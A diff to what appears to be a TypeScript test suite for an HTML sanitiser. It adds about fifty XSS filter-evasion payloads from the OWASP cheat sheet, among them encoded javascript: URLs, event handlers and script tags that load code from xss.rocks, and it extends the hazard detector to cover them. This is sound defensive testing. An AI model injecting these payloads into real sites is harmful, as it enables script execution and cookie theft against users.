@@ -58,6 +58,59 @@ const VECTORS = [
   '<p title="a" title="b" onclick="x">dup</p>',
 ];
 
+/** From the OWASP XSS filter evasion cheat sheet: what a sanitiser of operator HTML must withstand. */
+const OWASP_FILTER_EVASION = [
+  `<IMG SRC=\`javascript:alert("RSnake says, 'XSS'")\`>`,
+  '<a onmouseover="alert(document.cookie)">xxs link</a>',
+  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
+  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
+  `<IMG SRC=# onmouseover="alert('xxs')">`,
+  `<IMG SRC= onmouseover="alert('xxs')">`,
+  `<IMG onmouseover="alert('xxs')">`,
+  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
+  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
+  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
+  `<IMG SRC="jav\tascript:alert('XSS');">`,
+  `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
+  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
+  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
+  '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
+  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
+  '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
+  '<SCRIPT SRC=//xss.rocks/.j>',
+  `<IMG SRC="\`('XSS')"\``,
+  '<iframe src=http://xss.rocks/scriptlet.html <',
+  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
+  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
+  `<BODY BACKGROUND="javascript:alert('XSS')">`,
+  `<IMG DYNSRC="javascript:alert('XSS')">`,
+  `<IMG LOWSRC="javascript:alert('XSS')">`,
+  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
+  `<svg/onload=alert('XSS')>`,
+  `<BGSOUND SRC="javascript:alert('XSS');">`,
+  `<BR SIZE="&{alert('XSS')}">`,
+  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
+  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
+  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
+  `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
+  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
+  `<DIV STYLE="width: expression(alert('XSS'));">`,
+  `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
+  `<BASE HREF="javascript:alert('XSS');//">`,
+  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
+  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
+  '<XSS STYLE="behavior: url(xss.htc);">',
+  `<IMG SRC="javascript:alert('XSS')"`,
+  `<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`,
+  `<a href="  &#14;  javascript:alert('XSS')">x</a>`,
+  '<isindex type=image src=1 onerror=alert(1)>',
+  '<video><source onerror="alert(1)">',
+  '<audio src=x onerror=alert(1)>',
+  '<marquee onstart=alert(1)>',
+  '<a href="&#x6A;avascript:alert(1)">x</a>',
+  '<a href="jav&#97;script:alert(1)">x</a>',
+];
+
 /** Everything a page built from `html` could run or embed. */
 function hazards(html: string): string[] {
   const doc = new DOMParser().parseFromString(`<!doctype html><body>${html}</body>`, 'text/html');
@@ -69,7 +122,7 @@ function hazards(html: string): string[] {
     for (const attribute of element.attributes) {
       const name = attribute.name.toLowerCase();
       if (name.startsWith('on') || name === 'style' || name === 'srcdoc') found.push(`${tag}[${name}]`);
-      if (['href', 'src', 'action', 'formaction', 'data'].includes(name)) {
+      if (['href', 'src', 'action', 'formaction', 'data', 'background', 'dynsrc', 'lowsrc'].includes(name)) {
         const url = attribute.value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
         if (!/^(https?:\/\/[^/\\]|mailto:|\/(?![/\\])|#)/.test(url)) found.push(`${tag}[${name}=${attribute.value}]`);
       }
@@ -79,7 +132,7 @@ function hazards(html: string): string[] {
 }
 
 describe('publishing sanitiser', () => {
-  it.each(VECTORS)('leaves nothing runnable of %s', (vector) => {
+  it.each([...VECTORS, ...OWASP_FILTER_EVASION])('leaves nothing runnable of %s', (vector) => {
     const clean = sanitizeHtml(vector);
     expect(hazards(clean)).toEqual([]);
     // every `<` left is a tag of the allow-list (stray ones are escaped as text), and no tag carries a handler or script URL
@@ -89,8 +142,10 @@ describe('publishing sanitiser', () => {
   });
 
   it('the vectors are hazards before sanitising (the check can fail)', () => {
-    const unsafe = VECTORS.filter((vector) => hazards(vector).length > 0);
-    expect(unsafe.length).toBeGreaterThan(VECTORS.length / 2);
+    for (const vectors of [VECTORS, OWASP_FILTER_EVASION]) {
+      const unsafe = vectors.filter((vector) => hazards(vector).length > 0);
+      expect(unsafe.length).toBeGreaterThan(vectors.length / 2);
+    }
   });
 
   it('keeps the formatting operators use', () => {
@@ -101,7 +156,7 @@ describe('publishing sanitiser', () => {
     expect(sanitizeHtml(html)).toBe(
       '<h3>Terms</h3><p>Bonus <strong>₱22,222</strong>, <em>once</em> &amp; <u>only</u>.</p><ol><li>One</li><li>Two</li></ol>' +
         '<table><tbody><tr><td colspan="2">cell</td></tr></tbody></table><p><a href="/help#term" rel="noopener noreferrer">terms</a> <a href="https://example.com/x?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">out</a></p>' +
-        '<img src="/wps/assets/content/banner-live.svg" alt="Live" width="300">',
+        '<img src="/wps/assets/content/banner-live.svg" alt="Live" width="300" />',
     );
   });
 
